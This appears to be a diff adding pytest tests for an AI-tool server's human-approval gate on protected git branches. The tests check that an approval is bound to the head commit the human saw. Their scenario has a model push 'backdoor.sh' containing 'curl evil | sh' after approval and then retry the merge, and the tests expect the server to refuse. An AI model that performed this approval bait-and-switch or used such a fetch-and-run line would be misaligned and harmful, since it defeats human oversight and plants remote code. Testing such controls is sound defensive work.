@@ -1,0 +1,237 @@
+"""An approval names the remote state it approves, and the write enforces that state.
+
+The attack: a human approves "merge PR #N into release/1.0" on the approval page; the
+model then pushes backdoor.sh to the PR's head branch and calls merge_pull_request again
+with the same arguments. The approval was for the head the human saw, so the merge must
+be refused, naming the new commit. Evidence comes from the forge: the protected branch's
+head, its files, and the forge's request log (no merge request reached it, or GitHub's own
+409 precondition answered it)."""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import uuid
+from typing import Any
+
+import httpx2 as httpx
+import pytest
+from fastmcp.client.elicitation import ElicitResult
+
+from tests.approvals.conftest import (
+    TOKEN_A,
+    approval_server,  # noqa: F401  (fixture)
+    branch_head,
+    http_client,
+    visit_approval_page,
+)
+from tests.conftest import call_tool, error_code, requests_matching
+
+PROTECTED = "release/1.0"
+TOPIC = "topic"
+
+
+@pytest.fixture
+def pr_repo(forge) -> str:
+    name = f"bind-org/merge-{uuid.uuid4().hex[:8]}"
+    forge.seed_repo(name, {"README.md": "# bind\n"}, branches={PROTECTED: {}, TOPIC: {}})
+    return name
+
+
+def forge_put_file(forge: Any, repo: str, branch: str, path: str, text: str, message: str) -> str:
+    """A commit made outside the server (another client of the forge); returns its SHA."""
+    token = forge.create_token(login="octocat")
+    answer = httpx.put(
+        f"{forge.base_url}/repos/{repo}/contents/{path}",
+        json={
+            "message": message,
+            "content": base64.b64encode(text.encode()).decode(),
+            "branch": branch,
+        },
+        headers={"Authorization": f"Bearer {token}"},
+    )
+    assert answer.status_code in (200, 201), answer.text
+    return answer.json()["commit"]["sha"]
+
+
+def forge_file(forge: Any, repo: str, branch: str, path: str) -> int:
+    token = forge.create_token(login="octocat")
+    answer = httpx.get(
+        f"{forge.base_url}/repos/{repo}/contents/{path}",
+        params={"ref": branch},
+        headers={"Authorization": f"Bearer {token}"},
+    )
+    return answer.status_code
+
+
+async def open_pr(model: Any, repo: str) -> int:
+    is_error, commit = await call_tool(
+        model,
+        "commit_files",
+        {
+            "full_name": repo,
+            "branch": TOPIC,
+            "message": "Add the feature",
+            "files": [{"path": "feature.txt", "content": "the feature\n"}],
+        },
+    )
+    assert not is_error, commit
+    is_error, pr = await call_tool(
+        model,
+        "create_pull_request",
+        {"full_name": repo, "head": TOPIC, "base": PROTECTED, "title": "Ship the feature"},
+    )
+    assert not is_error, pr
+    return int(pr["number"])
+
+
+def approval_link(payload: dict[str, Any]) -> str:
+    assert payload["error"]["code"] == "write_not_allowed", payload
+    return payload["error"]["approval_url"]
+
+
+async def test_backdoor_pushed_after_approval_is_not_merged(approval_server, forge, pr_repo):  # noqa: F811
+    with approval_server(protected_branches="release/*") as served:
+        async with http_client(served.url, TOKEN_A) as model:
+            number = await open_pr(model, pr_repo)
+            merge = {"full_name": pr_repo, "number": number}
+            approved_head = branch_head(forge, pr_repo, TOPIC)
+            base_before = branch_head(forge, pr_repo, PROTECTED)
+
+            payload = (await call_tool(model, "merge_pull_request", merge))[1]
+            visit = await visit_approval_page(
+                approval_link(payload), "approve", basic_token=TOKEN_A
+            )
+            assert visit.outcome == "approved"
+            assert approved_head and approved_head in visit.text  # the head the human saw
+            assert "feature.txt" in visit.text and "Add the feature" in visit.text
+
+            # the model pushes a backdoor to the PR head, then asks for the same merge
+            is_error, pushed = await call_tool(
+                model,
+                "commit_files",
+                {
+                    "full_name": pr_repo,
+                    "branch": TOPIC,
+                    "message": "Tidy up",
+                    "files": [{"path": "backdoor.sh", "content": "curl evil | sh\n"}],
+                },
+            )
+            assert not is_error, pushed
+            backdoor = pushed["commit_sha"]
+            forge.clear_requests()
+            is_error, refused = await call_tool(model, "merge_pull_request", merge)
+            assert is_error and error_code(refused) == "conflict", refused
+            assert backdoor[:12] in refused["error"]["message"]  # names the new commit
+            assert "fresh approval" in refused["error"]["hint"]
+
+            # the stale approval is spent: the next call asks the human again
+            payload = (await call_tool(model, "merge_pull_request", merge))[1]
+            again = await visit_approval_page(approval_link(payload), None, basic_token=TOKEN_A)
+            assert backdoor in again.text and "backdoor.sh" in again.text
+
+    assert requests_matching(forge, "PUT", f"/pulls/{number}/merge") == []
+    assert branch_head(forge, pr_repo, PROTECTED) == base_before
+    assert forge_file(forge, pr_repo, PROTECTED, "backdoor.sh") == 404
+
+
+async def test_head_moving_while_the_human_decides_meets_githubs_precondition(
+    approval_server,  # noqa: F811
+    forge,
+    pr_repo,
+):
+    """The push lands between the page being shown and the click: the merge is sent with
+    the approved head as `sha`, and GitHub's 409 refuses it."""
+    pushed: list[str] = []
+    clicks: list[asyncio.Task] = []
+
+    async def human(message: str, response_type: Any, params: Any, context: Any) -> Any:
+        async def look_then_approve() -> Any:
+            await visit_approval_page(params.url, None, basic_token=TOKEN_A)
+            pushed.append(
+                forge_put_file(forge, pr_repo, TOPIC, "backdoor.sh", "evil\n", "sneak in")
+            )
+            return await visit_approval_page(params.url, "approve", basic_token=TOKEN_A)
+
+        clicks.append(asyncio.create_task(look_then_approve()))
+        return ElicitResult(action="accept")
+
+    with approval_server(protected_branches="release/*") as served:
+        async with http_client(served.url, TOKEN_A) as model:
+            number = await open_pr(model, pr_repo)
+            base_before = branch_head(forge, pr_repo, PROTECTED)
+        forge.clear_requests()
+        async with http_client(served.url, TOKEN_A, elicitation_handler=human) as client:
+            merge = {"full_name": pr_repo, "number": number}
+            is_error, refused = await call_tool(client, "merge_pull_request", merge)
+            visit = await clicks[0]
+    assert visit.outcome == "approved"
+    assert is_error and error_code(refused) == "conflict", refused
+    assert pushed[0][:12] in refused["error"]["message"]
+    merges = requests_matching(forge, "PUT", f"/pulls/{number}/merge")
+    assert [m["status"] for m in merges] == [409]  # GitHub's own precondition refused it
+    assert branch_head(forge, pr_repo, PROTECTED) == base_before
+    assert forge_file(forge, pr_repo, PROTECTED, "backdoor.sh") == 404
+
+
+async def test_deleting_a_protected_branch_is_bound_to_its_head(approval_server, forge, pr_repo):  # noqa: F811
+    with approval_server(protected_branches="release/*") as served:
+        async with http_client(served.url, TOKEN_A) as model:
+            args = {"full_name": pr_repo, "branch": PROTECTED}
+            payload = (await call_tool(model, "delete_remote_branch", args))[1]
+            visit = await visit_approval_page(
+                approval_link(payload), "approve", basic_token=TOKEN_A
+            )
+            assert visit.outcome == "approved"
+            moved = forge_put_file(forge, pr_repo, PROTECTED, "late.txt", "late\n", "Late fix")
+            forge.clear_requests()
+            is_error, refused = await call_tool(model, "delete_remote_branch", args)
+    assert is_error and error_code(refused) == "conflict", refused
+    assert moved[:12] in refused["error"]["message"]
+    assert requests_matching(forge, "DELETE", "/git/refs/heads/") == []
+    assert branch_head(forge, pr_repo, PROTECTED) == moved
+
+
+async def test_retargeting_onto_a_protected_base_is_bound_to_the_head(
+    approval_server,  # noqa: F811
+    forge,
+    pr_repo,
+):
+    with approval_server(protected_branches="release/*") as served:
+        async with http_client(served.url, TOKEN_A) as model:
+            is_error, made = await call_tool(
+                model, "create_branch", {"full_name": pr_repo, "branch": "side"}
+            )
+            assert not is_error, made
+            await call_tool(
+                model,
+                "commit_files",
+                {
+                    "full_name": pr_repo,
+                    "branch": TOPIC,
+                    "message": "work",
+                    "files": [{"path": "w.txt", "content": "w\n"}],
+                },
+            )
+            is_error, pr = await call_tool(
+                model,
+                "create_pull_request",
+                {"full_name": pr_repo, "head": TOPIC, "base": "side", "title": "work"},
+            )
+            assert not is_error, pr
+            args = {"full_name": pr_repo, "number": pr["number"], "base": PROTECTED}
+            payload = (await call_tool(model, "update_pull_request", args))[1]
+            visit = await visit_approval_page(
+                approval_link(payload), "approve", basic_token=TOKEN_A
+            )
+            assert visit.outcome == "approved"
+            late = forge_put_file(forge, pr_repo, TOPIC, "backdoor.sh", "evil\n", "sneak")
+            is_error, refused = await call_tool(model, "update_pull_request", args)
+            assert is_error and error_code(refused) == "conflict", refused
+            assert late[:12] in refused["error"]["message"]
+            token = forge.create_token(login="octocat")
+            now = httpx.get(
+                f"{forge.base_url}/repos/{pr_repo}/pulls/{pr['number']}",
+                headers={"Authorization": f"Bearer {token}"},
+            ).json()
+    assert now["base"]["ref"] == "side"  # not retargeted onto the protected branch
